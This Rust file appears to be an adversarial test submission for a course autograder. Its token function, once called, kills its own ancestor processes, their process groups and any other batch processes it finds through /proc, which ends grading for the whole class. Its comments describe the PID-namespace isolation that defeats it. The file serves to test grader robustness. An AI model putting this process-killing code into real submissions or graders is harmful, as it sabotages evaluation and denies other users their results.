//! Attack (batch): the batch itself killed from a check.
//!
//! During a call, `new_token` walks up its ancestors and SIGKILLs every one
//! that belongs to the scratch course (the harness, the `course batch`
//! process, the cargo that runs it) and the process group of each whose
//! group leader belongs to it too; then it looks in /proc for any other
//! `course … batch` process of the scratch course and kills it. The whole
//! class's grading ends with no results.
//!
//! A sound grader runs a submission where it cannot see or signal the
//! batch's processes (a PID namespace): the batch ends normally and the
//! victim keeps every check it passes alone.
//!
//! Only processes whose program or working directory is inside the scratch
//! course are ever signalled.

#[path = "atk_kit.rs"]
mod kit;

use std::sync::atomic::AtomicBool;

static DONE: AtomicBool = AtomicBool::new(false);

pub fn new_token() -> String {
    if kit::first(&DONE) {
        let me = std::process::id() as i32;
        // The farthest first: the check's process dies with its harness.
        let mut targets: Vec<i32> = kit::ancestors(me)
            .into_iter()
            .filter(|&pid| kit::of_the_course(pid))
            .rev()
            .collect();
        for pid in kit::all_pids() {
            let args = kit::cmdline(pid);
            if pid != me && !targets.contains(&pid) && kit::of_the_course(pid) && args.iter().any(|a| a == "batch") {
                targets.insert(0, pid);
            }
        }
        let shown: Vec<String> = targets.iter().map(|p| format!("{p} ({})", kit::comm(*p))).collect();
        kit::evidence("batch-kill", &format!("killing {}", shown.join(", ")));
        for pid in targets {
            // SAFETY: plain system calls on processes of the scratch course.
            unsafe {
                let group = kit::getpgid(pid);
                if group > 1 && kit::of_the_course(group) && group != kit::getpgid(me) {
                    kit::kill(-group, kit::SIGKILL);
                }
                kit::kill(pid, kit::SIGKILL);
            }
        }
    }
    todo!("return 16 to 20 random bytes as text (see the comment above)")
}
